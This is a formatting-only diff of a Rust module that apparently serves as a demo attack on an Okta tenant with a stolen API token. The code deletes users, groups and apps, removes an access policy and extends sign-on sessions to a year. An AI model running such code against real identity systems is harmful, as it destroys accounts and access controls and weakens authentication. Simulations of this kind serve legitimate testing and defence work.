@@ -28,7 +28,10 @@ pub(crate) async fn wreck(thief: &Visitor) -> Result<Damage, Failure> {
         format!("{policies} access policy deleted; its apps fell back to the default one"),
         format!("{rules} sign-on rule loosened: sessions live for a year"),
     ];
-    Ok(Damage { calls: raid.calls, told })
+    Ok(Damage {
+        calls: raid.calls,
+        told,
+    })
 }
 
 struct Raid<'a> {
@@ -39,13 +42,22 @@ struct Raid<'a> {
 impl Raid<'_> {
     /// Every fourth user: the first DELETE deactivates, the second one deletes.
     async fn users(&mut self) -> Result<usize, Failure> {
-        let me = self.thief.call(Method::GET, "/api/v1/users/me", None).await?.body;
+        let me = self
+            .thief
+            .call(Method::GET, "/api/v1/users/me", None)
+            .await?
+            .body;
         let users = self.thief.list("/api/v1/users?limit=200").await?;
         // A token dies with its owner, so the thief spares that one.
-        let chosen: Vec<&Value> = users.iter().filter(|user| id(user) != id(&me)).step_by(4).collect();
+        let chosen: Vec<&Value> = users
+            .iter()
+            .filter(|user| id(user) != id(&me))
+            .step_by(4)
+            .collect();
         for user in &chosen {
             for _ in ["deactivate", "delete"] {
-                self.send(Method::DELETE, &format!("/api/v1/users/{}", id(user)), None).await?;
+                self.send(Method::DELETE, &format!("/api/v1/users/{}", id(user)), None)
+                    .await?;
             }
         }
         Ok(chosen.len())
@@ -53,38 +65,69 @@ impl Raid<'_> {
 
     async fn groups(&mut self) -> Result<usize, Failure> {
         let groups = self.thief.list("/api/v1/groups?limit=200").await?;
-        let own: Vec<&Value> = groups.iter().filter(|group| group["type"] == "OKTA_GROUP").step_by(3).collect();
+        let own: Vec<&Value> = groups
+            .iter()
+            .filter(|group| group["type"] == "OKTA_GROUP")
+            .step_by(3)
+            .collect();
         for group in &own {
-            self.send(Method::DELETE, &format!("/api/v1/groups/{}", id(group)), None).await?;
+            self.send(
+                Method::DELETE,
+                &format!("/api/v1/groups/{}", id(group)),
+                None,
+            )
+            .await?;
         }
         Ok(own.len())
     }
 
     async fn apps(&mut self) -> Result<usize, Failure> {
         let apps = self.thief.list("/api/v1/apps?limit=200").await?;
-        let own = apps.iter().filter(|app| app["label"].as_str().is_some_and(|label| label.ends_with(char::is_numeric)));
+        let own = apps.iter().filter(|app| {
+            app["label"]
+                .as_str()
+                .is_some_and(|label| label.ends_with(char::is_numeric))
+        });
         let chosen: Vec<&Value> = own.step_by(2).collect();
         for app in &chosen {
             let path = format!("/api/v1/apps/{}", id(app));
-            self.send(Method::POST, &format!("{path}/lifecycle/deactivate"), None).await?;
+            self.send(Method::POST, &format!("{path}/lifecycle/deactivate"), None)
+                .await?;
             self.send(Method::DELETE, &path, None).await?;
         }
         Ok(chosen.len())
     }
 
     async fn access_policies(&mut self) -> Result<usize, Failure> {
-        let policies = self.thief.list("/api/v1/policies?type=ACCESS_POLICY").await?;
-        let Some(policy) = policies.iter().find(|policy| policy["system"] == false) else { return Ok(0) };
-        self.send(Method::DELETE, &format!("/api/v1/policies/{}", id(policy)), None).await?;
+        let policies = self
+            .thief
+            .list("/api/v1/policies?type=ACCESS_POLICY")
+            .await?;
+        let Some(policy) = policies.iter().find(|policy| policy["system"] == false) else {
+            return Ok(0);
+        };
+        self.send(
+            Method::DELETE,
+            &format!("/api/v1/policies/{}", id(policy)),
+            None,
+        )
+        .await?;
         Ok(1)
     }
 
     async fn loosen_sign_on(&mut self) -> Result<usize, Failure> {
-        let policies = self.thief.list("/api/v1/policies?type=OKTA_SIGN_ON").await?;
-        let Some(policy) = policies.iter().find(|policy| policy["system"] == false) else { return Ok(0) };
+        let policies = self
+            .thief
+            .list("/api/v1/policies?type=OKTA_SIGN_ON")
+            .await?;
+        let Some(policy) = policies.iter().find(|policy| policy["system"] == false) else {
+            return Ok(0);
+        };
         let path = format!("/api/v1/policies/{}/rules", id(policy));
         let rules = self.thief.list(&path).await?;
-        let Some(mut rule) = rules.into_iter().find(|rule| rule["system"] == false) else { return Ok(0) };
+        let Some(mut rule) = rules.into_iter().find(|rule| rule["system"] == false) else {
+            return Ok(0);
+        };
         let path = format!("{path}/{}", id(&rule));
         if let Some(session) = rule.pointer_mut("/actions/signon/session") {
             session["maxSessionLifetimeMinutes"] = json!(YEAR_MINUTES);
@@ -93,13 +136,21 @@ impl Raid<'_> {
         Ok(1)
     }
 
-    async fn send(&mut self, method: Method, path: &str, body: Option<&Value>) -> Result<(), Failure> {
+    async fn send(
+        &mut self,
+        method: Method,
+        path: &str,
+        body: Option<&Value>,
+    ) -> Result<(), Failure> {
         self.calls += 1;
         let heard = self.thief.call(method.clone(), path, body).await?;
         if heard.status.is_success() {
             return Ok(());
         }
-        Err(Failure::broken(format!("the demo's attack was answered {} at {method} {path}: {}", heard.status, heard.body)))
+        Err(Failure::broken(format!(
+            "the demo's attack was answered {} at {method} {path}: {}",
+            heard.status, heard.body
+        )))
     }
 }
 
